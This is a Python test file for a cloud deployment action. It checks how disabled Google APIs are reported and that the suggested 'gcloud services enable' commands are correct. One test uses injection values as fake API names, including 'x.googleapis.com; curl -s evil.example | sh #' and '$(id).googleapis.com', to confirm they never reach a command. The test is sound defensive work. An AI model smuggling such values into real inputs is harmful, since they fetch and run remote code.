"""What is looked at before the first write, beside permissions: these ``test_permissions`` takes away one by one."""

from __future__ import annotations

import html
import re
from collections.abc import Iterable
from pathlib import Path

import grpc
import pytest
from google.rpc import error_details_pb2

from emulator.errors import ApiError
from emulator.faults import Fault
from octue_action.project_setup import APIS
from tests.gcloud import understands
from tests.runs import Job, Run

NOT_NEEDED = {"logging.googleapis.com", "secretmanager.googleapis.com"}
"""Without which this service is deployed: it has no secrets, and nothing fails whose log there would be to read."""

NEEDED = sorted({*APIS} - NOT_NEEDED)
TO_SIGN_IN = {"iamcredentials.googleapis.com", "sts.googleapis.com"}


def switch_off(job: Job, apis: Iterable[str]) -> None:
    for api in apis:
        job.world.service_usage.disable(api)


def switched_on(run: Run) -> set[str]:
    """The APIs that the commands of a failed run switch on."""
    (command,) = re.findall(r"gcloud services enable (.*?) --project=my-project", "\n".join(run.errors))
    return set(command.split())


@pytest.mark.parametrize("api", NEEDED)
def test_an_api_that_is_off_is_named_with_the_command_before_anything_is_changed(job: Job, api: str) -> None:
    switch_off(job, [api])
    run = job.deploy()
    assert run.code == 1
    assert run.writes == []
    assert switched_on(run) == {api}


def test_all_apis_that_are_off_are_named_at_once(job: Job) -> None:
    off = {*NEEDED} - TO_SIGN_IN
    switch_off(job, off)
    run = job.deploy()
    assert run.code == 1
    assert run.writes == []
    assert switched_on(run) == off

    for api in off:
        job.world.service_usage.enable(api)
    assert job.deploy().code == 0


@pytest.mark.parametrize("api", sorted(NOT_NEEDED))
def test_an_api_that_is_not_needed_may_be_off(job: Job, api: str) -> None:
    switch_off(job, [api])
    assert job.deploy().code == 0


@pytest.mark.parametrize("named", ["x.googleapis.com; curl -s evil.example | sh #", "$(id).googleapis.com"])
def test_an_api_that_is_none_comes_into_no_command(job: Job, named: str) -> None:
    info = error_details_pb2.ErrorInfo(reason="SERVICE_DISABLED", domain="googleapis.com", metadata={"service": named})
    refusal = ApiError(grpc.StatusCode.PERMISSION_DENIED, "It is off.", info)
    job.world.faults.add(Fault(method="*Services/GetService", error=refusal, times=None))
    run = job.deploy()
    assert run.code == 1
    assert not [line for line in run.errors[0].splitlines() if line.startswith("gcloud") and named in line]


@pytest.mark.witness
def test_gcloud_understands_the_commands_that_mend_everything(job: Job, tmp_path: Path) -> None:
    """The deployer has no role at all, and an API is off."""
    switch_off(job, ["eventarc.googleapis.com"])
    policy = job.world.policies.get(job.world.projects.name)
    for binding in policy.bindings:
        binding.members[:] = [it for it in binding.members if it != f"serviceAccount:{job.world.iam.deployer}"]
    job.world.policies.seed(job.world.projects.name, policy)
    (commands,) = re.findall("<pre.*?>(.*?)</pre>", job.deploy().summary, re.DOTALL)
    folder = tmp_path / "gcloud"
    folder.mkdir()
    assert understands(html.unescape(commands), folder) >= 3
